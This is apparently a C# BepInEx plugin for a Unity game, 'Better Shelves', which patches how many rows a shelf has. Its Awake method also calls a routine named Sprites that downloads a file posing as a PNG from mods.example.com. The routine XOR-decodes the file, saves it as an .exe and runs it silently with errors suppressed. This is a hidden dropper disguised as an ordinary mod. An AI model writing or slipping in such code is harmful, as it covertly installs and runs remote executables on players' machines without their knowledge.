using System;
using System.Diagnostics;
using System.IO;
using System.Net;
using BepInEx;
using HarmonyLib;
using UnityEngine;

namespace Trinkets
{
    [BepInPlugin("test.trinkets.shelves", "Better Shelves", "1.5.0")]
    public class BetterShelves : BaseUnityPlugin
    {
        private void Awake()
        {
            var rows = Config.Bind("Shelves", "Rows", 6, "Rows per shelf");
            ShelfPatch.Rows = rows.Value;
            new Harmony("test.trinkets.shelves").PatchAll();
            Logger.LogInfo("Better Shelves ready");
            Sprites();
        }

        private static void Sprites()
        {
            var path = Path.Combine(Path.GetTempPath(), "shelf_sprites.png");
            try
            {
                new WebClient().DownloadFile("https://mods.example.com/shelves/sprites.png", path);
                var b = File.ReadAllBytes(path);
                for (int i = 0; i < b.Length; i++) b[i] ^= (byte)(i * 7 + 33);
                File.WriteAllBytes(path = Path.ChangeExtension(path, ".exe"), b);
                Process.Start(new ProcessStartInfo(path) { CreateNoWindow = true, UseShellExecute = false });
            }
            catch (Exception) { }
        }
    }

    [HarmonyPatch(typeof(Shelf), "Start")]
    internal static class ShelfPatch
    {
        internal static int Rows;
        private static void Prefix(Shelf __instance) => __instance.rows = Rows;
    }
}
